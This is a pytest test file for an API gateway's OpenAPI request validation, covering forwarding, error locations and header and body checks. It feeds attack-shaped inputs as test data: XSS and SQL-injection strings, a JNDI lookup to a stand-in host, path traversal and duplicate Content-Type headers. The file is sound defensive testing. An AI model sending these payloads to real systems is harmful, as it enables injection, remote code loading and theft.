"""OpenAPI request validation through the real gateway, against a realistic document (tests/data/openapi:
19 operations, refs, nested objects, arrays, enums, formats, oneOf, a form body), in both its 3.1 YAML and
3.0 JSON forms: valid requests are forwarded byte for byte, invalid ones are refused with every failing
location and never reach the upstream, and attack-shaped inputs are never echoed back."""

from __future__ import annotations

import copy
import json
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support import EchoUpstream, GatewayThread, load_text, raw_exchange, request, status_of

DATA = Path(__file__).resolve().parents[1] / "data" / "openapi"
CUSTOMER = "cus_" + "A1b2C3d4E5f6G7"
PRODUCT = "0b6f8f7e-3a55-4f4e-9c1a-2d7e5b8c9a10"
FORM = "application/x-www-form-urlencoded"


def order(**changes: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "customer_id": CUSTOMER,
        "items": [
            {"product_id": PRODUCT, "quantity": 2},
            {"product_id": PRODUCT, "quantity": 1, "gift_wrap": True},
        ],
        "currency": "EUR",
        "shipping_address": {"line1": "12 St James Square", "city": "London", "postal_code": "SW1Y 4JH",
                             "country": "GB"},
        "payment": {"type": "card", "token": "tok_" + "a" * 24, "last4": "4242"},
        "contact_email": "ada@example.com",
        "deliver_on": "2026-12-24",
    }
    doc.update(changes)
    return doc


class Shop:
    def __init__(self, upstream: EchoUpstream, gateway: GatewayThread) -> None:
        self.upstream = upstream
        self.gateway = gateway

    def call(
        self, method: str, path: str, body: Any = None, *, headers: dict[str, str] | None = None,
        raw: bytes | None = None, content_type: str = "application/json",
    ) -> tuple[int, dict[str, str], Any]:
        hdrs = {"x-request-id": str(uuid.uuid4()), **(headers or {})}
        data = raw
        if body is not None:
            data = json.dumps(body).encode()
        if data is not None:
            hdrs.setdefault("content-type", content_type)
        before = len(self.upstream.requests)
        status, got, out = request(self.gateway.port, method, path, headers=hdrs, body=data)
        self.forwarded = len(self.upstream.requests) > before
        try:
            parsed = json.loads(out)
        except ValueError:
            parsed = out
        return status, got, parsed

    def errors(self, reply: Any) -> set[tuple[str, str]]:
        return {(e["location"], e["reason"]) for e in reply["errors"]}


def _config(
    upstream_port: int, db: Path, spec: Path, *, service: str = "", routes: str = "from_openapi"
) -> str:
    return f"""
listen: 127.0.0.1:0
storage: {{database: "sqlite:///{db}", state: "memory://"}}
services:
  - name: shop
    upstream: http://127.0.0.1:{upstream_port}
    openapi: {spec}
    route_defaults: {{auth: none}}
{service}
    routes: {routes}
"""


@pytest.fixture(scope="module", params=["shop.yaml", "shop-3.0.json"], ids=["3.1-yaml", "3.0-json"])
def shop(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shop]:
    """One gateway per document version for the module: these tests only read and are refused."""
    tmp = tmp_path_factory.mktemp("shop")
    with EchoUpstream() as upstream:
        text = _config(upstream.port, tmp / "b.db", DATA / request.param)
        with GatewayThread(load_text(text)) as gateway:
            yield Shop(upstream, gateway)


# -- valid requests pass untouched -----------------------------------------------------------------------


def test_a_valid_order_is_forwarded_byte_for_byte(shop: Shop) -> None:
    raw = json.dumps(order(), indent=2).encode()  # formatting the validator must not change
    status, _, echoed = shop.call("POST", "/v1/orders", raw=raw)
    assert status == 200, echoed
    import hashlib

    assert echoed["body_sha256"] == hashlib.sha256(raw).hexdigest()


@pytest.mark.parametrize(
    "path",
    [
        "/v1/search?q=lamp",
        "/v1/search?q=lamp&type=product&type=order&limit=50&exact=true",
        "/v1/products?page_size=100&category=garden&in_stock=false",
        f"/v1/products/{PRODUCT}",
        f"/v1/customers/{CUSTOMER}/addresses?page_size=1",
        "/v1/orders?status=paid&placed_after=2026-11-01T00:00:00Z&min_total=10.50",
    ],
)
def test_valid_reads_pass(shop: Shop, path: str) -> None:
    status, _, reply = shop.call("GET", path)
    assert status == 200, reply
    assert shop.forwarded


def test_each_payment_shape_of_the_one_of_is_accepted(shop: Shop) -> None:
    for payment in (
        {"type": "bank_transfer", "iban": "GB82WEST12345698765432", "reference": None},
        {"type": "wallet", "provider": "paypal", "account_email": "ada@example.com"},
    ):
        status, _, reply = shop.call("POST", "/v1/orders", order(payment=payment))
        assert status == 200, reply


def test_a_valid_form_body_passes(shop: Shop) -> None:
    form = (
        b"source_url=https%3A%2F%2Ffiles.example.com%2Fa.pdf&filename=a.pdf&size_bytes=10&public=true"
        b"&tags=x&tags=y"
    )
    status, _, reply = shop.call("POST", "/v1/uploads", raw=form, content_type=FORM)
    assert status == 200, reply


# -- invalid requests are refused, with every location -------------------------------------------------


def test_an_order_with_many_mistakes_lists_them_all_and_reaches_nobody(shop: Shop) -> None:
    bad = order(
        items=[{"product_id": "not-a-uuid", "quantity": 0}, {"product_id": PRODUCT, "quantity": "2"}],
        currency="DOGE",
        contact_email="nobody",
        deliver_on="tomorrow",
        client_ip="999.1.1.1",
        shipping_address={"city": "London", "postal_code": "sw1", "country": "GB"},
    )
    status, headers, reply = shop.call("POST", "/v1/orders", bad)
    assert status == 422 and headers["content-type"] == "application/problem+json"
    assert not shop.forwarded
    assert reply["code"] == "request_invalid"
    assert {
        ("body.items[0].product_id", "must be a valid uuid"),
        ("body.items[0].quantity", "must be >= 1"),
        ("body.items[1].quantity", "must be of type integer"),
        ("body.currency", "must be one of the allowed values"),
        ("body.contact_email", "must be a valid email"),
        ("body.deliver_on", "must be a valid date"),
        ("body.client_ip", "must be a valid ipv4"),
        ("body.shipping_address.line1", "is required"),
        ("body.shipping_address.postal_code", "does not match the required pattern"),
    } <= shop.errors(reply)


@pytest.mark.parametrize("framing", ["arrived with the head", "chunked, still to come"])
@pytest.mark.parametrize(
    ("body", "status", "forwarded"),
    [
        (json.dumps(order()).encode(), 200, True),
        (json.dumps(order(currency="DOGE")).encode(), 422, False),
        (b'{"customer_id": "x", "customer_id": "y"}', 400, False),
    ],
    ids=["valid", "invalid", "duplicate-key"],
)
def test_the_verdict_does_not_depend_on_when_the_body_arrives(
    shop: Shop, framing: str, body: bytes, status: int, forwarded: bool
) -> None:
    """A body that came with the head is judged at once, one still to come is awaited (and a chunked
    one always is): two paths through the check, one answer."""
    if framing == "arrived with the head":
        framed = b"Content-Length: %d\r\n\r\n%s" % (len(body), body)
    else:
        half = len(body) // 2
        framed = b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n%x\r\n%s\r\n0\r\n\r\n" % (
            half, body[:half], len(body) - half, body[half:]
        )
    before = len(shop.upstream.requests)
    reply = raw_exchange(
        shop.gateway.port,
        b"POST /v1/orders HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n"
        + b"X-Request-Id: %s\r\n" % str(uuid.uuid4()).encode()
        + framed,
    )
    assert status_of(reply) == status
    assert (len(shop.upstream.requests) > before) is forwarded


def test_a_body_with_two_content_types_is_never_validated_as_one(shop: Shop) -> None:
    """Validated as JSON, read upstream as the other type (a framework that takes the last one): refused."""
    body = json.dumps(order()).encode()
    before = len(shop.upstream.requests)
    reply = raw_exchange(
        shop.gateway.port,
        b"POST /v1/orders HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Type: application/json\r\n"
        + b"X-Request-Id: %s\r\n" % str(uuid.uuid4()).encode()
        + b"Content-Type: application/x-www-form-urlencoded\r\n"
        + b"Content-Length: %d\r\n\r\n%s" % (len(body), body),
    )
    assert status_of(reply) == 400 and b'"code":"content_type_repeated"' in reply
    assert len(shop.upstream.requests) == before


def test_read_only_fields_cannot_be_set_by_the_client(shop: Shop) -> None:
    status, _, reply = shop.call("POST", "/v1/orders", order(id=str(uuid.uuid4()), status="paid", total=0.01))
    assert status == 422 and not shop.forwarded
    assert {
        ("body.id", "is read-only: it cannot be sent in a request"),
        ("body.status", "is read-only: it cannot be sent in a request"),
        ("body.total", "is read-only: it cannot be sent in a request"),
    } <= shop.errors(reply)


def test_unknown_properties_are_refused_where_the_schema_is_closed(shop: Shop) -> None:
    status, _, reply = shop.call("POST", "/v1/orders", order(is_admin=True))
    assert status == 422 and ("body.is_admin", "is not an allowed property") in shop.errors(reply)
    # The address schema is open on purpose: extra carrier fields pass.
    address = order()["shipping_address"] | {"carrier_note": "leave at reception"}
    assert shop.call("POST", "/v1/orders", order(shipping_address=address))[0] == 200


def test_a_payment_that_matches_no_shape_is_refused(shop: Shop) -> None:
    status, _, reply = shop.call("POST", "/v1/orders", order(payment={"type": "card", "iban": "x"}))
    assert status == 422
    assert ("body.payment", "must match exactly one of the allowed shapes") in shop.errors(reply)


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/v1/search", ("query.q", "is required")),
        ("/v1/search?q=x", ("query.q", "must be at least 2 characters")),
        ("/v1/search?q=lamp&limit=51", ("query.limit", "must be <= 50")),
        ("/v1/search?q=lamp&limit=ten", ("query.limit", "must be of type integer")),
        ("/v1/search?q=lamp&limit=1&limit=2", ("query.limit", "must appear once")),
        ("/v1/search?q=lamp&q=lamp", ("query.q", "must appear once")),
        ("/v1/search?q=lamp&type=planet", ("query.type[0]", "must be one of the allowed values")),
        ("/v1/search?q=lamp&exact=yes", ("query.exact", "must be of type boolean")),
        ("/v1/products/not-a-uuid", ("path.product_id", "must be a valid uuid")),
        ("/v1/products?page_size=0", ("query.page_size", "must be >= 1")),
        ("/v1/customers/cus_short/addresses", ("path.customer_id", "does not match the required pattern")),
        ("/v1/orders?min_total=1.001", ("query.min_total", "must be a multiple of 0.01")),
    ],
)
def test_bad_parameters_are_400_with_their_location(shop: Shop, path: str, expected: tuple[str, str]) -> None:
    status, _, reply = shop.call("GET", path)
    assert status == 400 and not shop.forwarded
    assert expected in shop.errors(reply)


def test_a_required_header_is_checked(shop: Shop) -> None:
    body = json.dumps(order()).encode()
    status, _, reply = request(shop.gateway.port, "POST", "/v1/orders", body=body,
                               headers={"content-type": "application/json"})
    assert status == 400 and ("header.x-request-id", "is required") in shop.errors(json.loads(reply))
    status, _, reply = shop.call("POST", "/v1/orders", order(), headers={"x-request-id": "abc"})
    assert status == 400 and ("header.x-request-id", "must be a valid uuid") in shop.errors(reply)
    status, _, reply = shop.call("POST", "/v1/orders", order(), headers={"idempotency-key": "short"})
    assert status == 400 and ("header.idempotency-key", "must be at least 8 characters") in shop.errors(reply)


def test_content_type_and_body_presence(shop: Shop) -> None:
    raw = json.dumps(order()).encode()
    status, _, reply = shop.call("POST", "/v1/orders", raw=raw, content_type="text/plain")
    assert status == 415 and reply["code"] == "unsupported_media_type"
    expected = {"location": "header.content-type", "reason": "must be one of: application/json"}
    assert reply["errors"] == [expected]
    status, _, reply = shop.call("POST", "/v1/orders")
    assert status == 400 and ("body", "is required") in shop.errors(reply)
    status, _, reply = shop.call("GET", "/v1/search?q=lamp", raw=b'{"x": 1}')
    assert status == 400 and ("body", "is not accepted by this operation") in shop.errors(reply)
    assert not shop.forwarded


def test_form_bodies_are_validated_too(shop: Shop) -> None:
    form = b"source_url=notaurl&filename=..%2Fetc&size_bytes=0&public=maybe&owner=me"
    status, _, reply = shop.call("POST", "/v1/uploads", raw=form, content_type=FORM)
    assert status == 422 and not shop.forwarded
    assert {
        ("body.filename", "does not match the required pattern"),
        ("body.size_bytes", "must be >= 1"),
        ("body.public", "must be of type boolean"),
        ("body.owner", "is not an allowed property"),
    } <= shop.errors(reply)


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (b'{"customer_id": "x", "customer_id": "y"}', "json_invalid"),
        (b"[" * 40 + b"]" * 40, "json_limit_exceeded"),
        (b'{"note": NaN}', "json_invalid"),
        (b"\xff\xfe{\x00}\x00", "json_invalid"),
        (b"{not json", "json_invalid"),
    ],
)
def test_bad_json_is_refused_before_the_schema(shop: Shop, raw: bytes, code: str) -> None:
    status, _, reply = shop.call("POST", "/v1/orders", raw=raw)
    assert status == 400 and reply["code"] == code and not shop.forwarded


ATTACKS = [
    "<script>alert(document.cookie)</script>",
    "' OR 1=1 --",
    "sk_live_51HxYzSECRETSECRET",
    "${jndi:ldap://evil.example/a}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_refusals_never_echo_what_was_sent(shop: Shop, attack: str) -> None:
    bad = order(currency=attack, note=attack * 200, items=[{"product_id": attack, "quantity": attack}])
    bad["<img src=x onerror=alert(1)>"] = 1  # an unknown key that is not a plain name is never named
    status, _, reply = shop.call("POST", "/v1/orders", bad)
    assert status == 422
    text = json.dumps(reply)
    assert attack not in text and "jndi" not in text and "script" not in text and "onerror" not in text
    assert ("body.<field>", "is not an allowed property") in shop.errors(reply)
    from urllib.parse import quote

    status, _, reply = shop.call("GET", "/v1/search?q=" + quote(attack) + "&limit=" + quote(attack))
    assert status == 400 and attack not in json.dumps(reply)


# -- modes and options ---------------------------------------------------------------------------------


def _gateway(tmp_path: Path, spec: str = "shop.yaml", **kwargs: str) -> tuple[EchoUpstream, GatewayThread]:
    upstream = EchoUpstream().__enter__()
    text = _config(upstream.port, tmp_path / "b.db", DATA / spec, **kwargs)
    return upstream, GatewayThread(load_text(text)).__enter__()


def test_monitor_mode_forwards_and_records_what_was_wrong(tmp_path: Path) -> None:
    from bastion.events.query import EventFilter, query_events
    from bastion.store.database import open_database
    from tests.integration._identity import wait_for

    upstream, gateway = _gateway(tmp_path, service="    validate: monitor")
    try:
        shop = Shop(upstream, gateway)
        status, _, _ = shop.call("GET", "/v1/search?q=lamp&limit=500")
        assert status == 200 and shop.forwarded
    finally:
        gateway.__exit__(None, None, None)
        upstream.__exit__(None, None, None)
    engine = open_database(f"sqlite:///{tmp_path / 'b.db'}")
    events = wait_for(lambda: query_events(engine, EventFilter(type="request.invalid"))[0], what="the event")
    assert events[0]["reason"] == "request_invalid"
    assert events[0]["data"]["errors"] == [{"location": "query.limit", "reason": "must be <= 50"}]
    engine.dispose()


def test_forward_unknown_false_strips_what_the_operation_does_not_declare(tmp_path: Path) -> None:
    routes = "\n" + "\n".join(
        f"      - {{path: \"{path}\", methods: [{methods}], auth: none{extra}}}"
        for path, methods, extra in [
            ("/v1/search", "GET", ", forward_unknown: false"),
            ("/v1/products", "GET, POST", ""),
            ("/v1/products/{product_id}", "GET, PUT, PATCH, DELETE", ""),
            ("/v1/orders", "GET, POST", ", forward_unknown: false"),
            ("/v1/orders/{order_id}", "GET, PATCH, DELETE", ""),
            ("/v1/orders/{order_id}/items", "GET, POST", ""),
            ("/v1/customers/{customer_id}", "GET, PATCH", ""),
            ("/v1/customers/{customer_id}/addresses", "GET, POST", ""),
            ("/v1/uploads", "POST", ""),
        ]
    )
    upstream = EchoUpstream().__enter__()
    text = _config(upstream.port, tmp_path / "b.db", DATA / "shop.yaml", routes=routes).replace(
        "    route_defaults: {auth: none}\n", ""
    )
    gateway = GatewayThread(load_text(text)).__enter__()
    try:
        shop = Shop(upstream, gateway)
        status, _, echoed = shop.call(
            "GET", "/v1/search?q=lamp&debug=1&type=order&admin=true",
            headers={"x-internal-user": "root", "accept": "application/json", "user-agent": "probe"},
        )
        assert status == 200
        assert echoed["path"] == "/v1/search?q=lamp&type=order"
        names = {name for name, _ in echoed["headers"]}
        assert "x-internal-user" not in names and "user-agent" not in names and "accept" in names
        assert "x-request-id" in names  # the gateway's own
        status, _, echoed = shop.call("POST", "/v1/orders", order(), headers={"idempotency-key": "abcdefgh1"})
        assert status == 200
        names = {name for name, _ in echoed["headers"]}
        assert {"idempotency-key", "content-type", "content-length"} <= names
        # Routes without the option forward everything.
        status, _, echoed = shop.call("GET", "/v1/products?debug=1", headers={"x-internal-user": "root"})
        assert echoed["path"] == "/v1/products?debug=1"
        assert "x-internal-user" in {n for n, _ in echoed["headers"]}
    finally:
        gateway.__exit__(None, None, None)
        upstream.__exit__(None, None, None)


def test_reject_unknown_fields_closes_open_objects(tmp_path: Path) -> None:
    upstream = EchoUpstream().__enter__()
    text = _config(upstream.port, tmp_path / "b.db", DATA / "shop.yaml").replace(
        "route_defaults: {auth: none}", "route_defaults: {auth: none, reject_unknown_fields: true}"
    )
    gateway = GatewayThread(load_text(text)).__enter__()
    try:
        shop = Shop(upstream, gateway)
        assert shop.call("POST", "/v1/orders", order())[0] == 200
        address = order()["shipping_address"] | {"carrier_note": "leave at reception"}
        status, _, reply = shop.call("POST", "/v1/orders", order(shipping_address=address))
        assert status == 422 and not shop.forwarded
        assert shop.errors(reply) == {("body.shipping_address.carrier_note", "is not an allowed property")}
    finally:
        gateway.__exit__(None, None, None)
        upstream.__exit__(None, None, None)


def test_validate_off_forwards_anything(tmp_path: Path) -> None:
    upstream, gateway = _gateway(tmp_path, service="    validate: off")
    try:
        shop = Shop(upstream, gateway)
        assert shop.call("GET", "/v1/search?limit=ten")[0] == 200
    finally:
        gateway.__exit__(None, None, None)
        upstream.__exit__(None, None, None)


def test_the_two_document_versions_compile_to_the_same_operations() -> None:
    from bastion.checks.openapi import compile_operations
    from bastion.config.openapi import load_openapi

    v31 = compile_operations(load_openapi(DATA / "shop.yaml").spec)
    v30 = compile_operations(load_openapi(DATA / "shop-3.0.json").spec)
    assert set(v31) == set(v30) and len(v31) >= 10
    for key in v31:
        assert [(p.where, p.name, p.required) for p in v31[key].params] == [
            (p.where, p.name, p.required) for p in v30[key].params
        ]
        assert set(v31[key].media) == set(v30[key].media)


def test_the_fixture_is_not_mutated_by_compilation() -> None:
    from bastion.checks.openapi import compile_operations
    from bastion.config.openapi import load_openapi

    spec = load_openapi(DATA / "shop.yaml").spec
    before = copy.deepcopy(spec)
    compile_operations(spec, reject_unknown=True)
    assert spec == before
